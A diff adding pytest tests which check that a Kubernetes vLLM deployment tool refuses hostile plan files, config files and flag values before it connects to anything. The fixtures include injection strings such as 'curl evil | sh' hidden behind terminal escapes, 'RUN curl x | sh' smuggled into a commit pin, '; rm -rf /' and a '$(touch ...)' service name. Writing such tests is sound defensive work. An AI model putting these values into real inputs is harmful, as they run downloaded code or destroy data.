@@ -228,3 +228,135 @@ def test_sighup_during_run_down_finishes_the_deletion(cluster, tmp_path):
     finally:
         cleanup(cluster, ns, plan)
     assert not wait_gone(cluster, ns)
+
+
+# ---- plan.json, config.json and flag values: refused on load, before anything connects ---------
+
+
+def _plan_doc(tmp_path: Path) -> dict:
+    return json.loads(plan_for(tmp_path, "inputs").read_text())
+
+
+def _bad_plans(tmp_path: Path) -> list[tuple[str, Path, str]]:
+    """(case, plan path, what the one line says)"""
+    good = _plan_doc(tmp_path)
+    out: list[tuple[str, Path, str]] = []
+
+    def put(cid: str, says: str, doc=None, raw: bytes | None = None) -> None:
+        p = tmp_path / f"{cid}.json"
+        p.write_bytes(raw if raw is not None else json.dumps(doc).encode())
+        out.append((cid, p, says))
+
+    def edit(cid: str, says: str, **changes) -> None:
+        doc = json.loads(json.dumps(good))
+        for k, v in changes.items():
+            if "__" in k:
+                a, b = k.split("__")
+                doc[a][b] = v
+            else:
+                doc[k] = v
+        put(cid, says, doc)
+
+    edit("nodes-100000", r"nodes must be an integer 1\.\.64", nodes=100000)
+    edit("nodes-string", r"nodes must be an integer", nodes="2")
+    edit("nodes-float", r"gpus_per_node must be an integer", gpus_per_node=1.5)
+    edit("nodes-bool", r"efa_per_node must be an integer", efa_per_node=True)
+    edit("name-300", r"name must be a DNS-1123 label", name="a" * 300)
+    edit("name-newline", r"name must be a DNS-1123 label", name="vllm-deepep\n")
+    edit("name-markup", r"name must be a DNS-1123 label", name="[/]")
+    edit("ns-newline", r"input\.namespace must be a DNS-1123 label", input__namespace="default\n")
+    edit("engine-markup", r"input\.engine must be a single word", input__engine="[/]vllm")
+    edit("pin-newline", r"vllm_pin must be a commit", vllm_pin="abc1234\nRUN curl x | sh")
+    edit("cmd-escape", r"commands\.kernel_run holds control characters",
+         commands={**good["commands"], "kernel_run": "true\x1b[2K\x1b[1A curl evil | sh"})  # fmt: skip
+    edit("env-name", r"env\[0\]\.name must be an environment variable name",
+         env=[{"name": "A;rm -rf /", "value": "x"}])  # fmt: skip
+    edit("commands-list", r"commands must be an object", commands=["x"])
+    edit("input-list", r"input must be an object", input=[1])
+    put("list", r"not a plan", [1, 2])
+    put("not-json", r"not JSON", raw=b"{nope")
+    put("deep", r"nested too deeply", raw=b"[" * 100_000 + b"]" * 100_000)
+    put("huge", r"larger than 4 MiB", raw=b'{"x": "' + b"a" * (5 << 20) + b'"}')
+    put("binary", r"not UTF-8", raw=b"\xff\xfe{}")
+    fifo = tmp_path / "fifo.json"
+    os.mkfifo(fifo)
+    out.append(("fifo", fifo, r"FIFO"))
+    out.append(("dev-zero", Path("/dev/zero"), r"device"))
+    out.append(("directory", tmp_path, r"directory"))
+    return out
+
+
+def test_a_hostile_plan_is_refused_on_load(cluster, tmp_path):
+    cases = _bad_plans(tmp_path)
+    failed = []
+    for cid, path, says in cases:
+        for argv in (["run", "kernel-test", "--plan", str(path), "--yes"],
+                     ["run", "serve", "--plan", str(path), "--yes"],
+                     ["run", "down", "--plan", str(path), "--yes"]):  # fmt: skip
+            before = len(cluster.emulator.seen)
+            r = kube(cluster, *argv, timeout=30)
+            try:
+                judge(f"plan/{argv[1]}/{cid}", r, Expect(code=exitcodes.ERROR, says=says, max_s=20,
+                                                         max_rss_mb=400))  # fmt: skip
+                # refused before any API request
+                assert len(cluster.emulator.seen) == before, cluster.emulator.seen[before:][:3]
+            except AssertionError as exc:
+                failed.append(f"{argv[1]}/{cid}: {exc}")
+    assert not failed, "\n".join(failed)
+    assert len(cases) >= 20
+
+
+def test_the_manifest_service_name_never_reaches_a_shell_unquoted(tmp_path):
+    from epdoctor.launch import kube_objects as ko
+
+    doc = json.loads(plan_for(tmp_path, "svc").read_text())
+    objs = ko.load_objects(doc, None, "svc")
+    objs.statefulset["spec"]["serviceName"] = "x$(touch /tmp/epd-pwn);y"
+    with pytest.raises(ko.PlanObjectsError, match="serviceName"):
+        _ = objs.leader_address
+
+
+def test_plan_refuses_a_hostile_config_json_and_pins(tmp_path):
+    model = tmp_path / "model"
+    model.mkdir()
+    cases = []
+    (model / "config.json").symlink_to("/dev/zero")
+    cases.append(("config-dev-zero", ["plan", "--no-input", "--model", str(model)],
+                  r"no config\.json|device"))  # fmt: skip
+    # a Hugging Face cache entry linked to /dev/zero (it reached 20 GB resident)
+    snap = tmp_path / "hf" / "models--org--moe" / "snapshots" / "abc"
+    snap.mkdir(parents=True)
+    (snap / "config.json").symlink_to("/dev/zero")
+    cases.append(("cache-dev-zero", ["plan", "--no-input", "--model", "org/moe", "--hf-cache",
+                                     str(tmp_path / "hf")], r"device"))  # fmt: skip
+    fifo_model = tmp_path / "fifo-model"
+    fifo_model.mkdir()
+    os.mkfifo(fifo_model / "config.json")
+    cases.append(("config-fifo", ["plan", "--no-input", "--model", str(fifo_model)], r"FIFO"))
+    big = tmp_path / "big-model"
+    big.mkdir()
+    (big / "config.json").write_bytes(b'{"a": "' + b"x" * 2_000_000 + b'"}')
+    cases.append(("config-huge", ["plan", "--no-input", "--model", str(big)], r"larger than"))
+    deep = tmp_path / "deep-model"
+    deep.mkdir()
+    (deep / "config.json").write_bytes(b"[" * 50_000 + b"]" * 50_000)
+    cases.append(("config-deep", ["plan", "--no-input", "--model", str(deep)], r"nested too deeply"))
+    base = ["plan", "--no-input", "--num-experts", "128"]
+    cases += [
+        ("pin-newline", [*base, "--vllm-pin", "abc1234\nRUN curl x | sh"], r"--vllm-pin .*neither"),
+        ("pin-shell", [*base, "--vllm-pin", "0.11.0; rm -rf /"], r"--vllm-pin .*neither"),
+        ("name-newline", [*base, "--name", "vllm\n"], r"name .*DNS-1123"),
+        ("ns-newline", [*base, "-n", "default\n"], r"namespace .*DNS-1123"),
+        ("image-newline", [*base, "--image", "repo/x:v1\nRUN id"], r"image"),
+    ]
+    failed = []
+    for cid, argv, says in cases:
+        r = epd(*argv, "-o", str(tmp_path / f"out-{cid}"), timeout=30)
+        try:
+            judge(f"plan-input/{cid}", r, Expect(code=exitcodes.ERROR, says=says, max_s=20,
+                                                 max_rss_mb=400))  # fmt: skip
+            assert not (tmp_path / f"out-{cid}").exists() or "RUN" not in "".join(
+                p.read_text() for p in (tmp_path / f"out-{cid}").rglob("Dockerfile*"))
+        except AssertionError as exc:
+            failed.append(f"{cid}: {exc}")
+    assert not failed, "\n".join(failed)
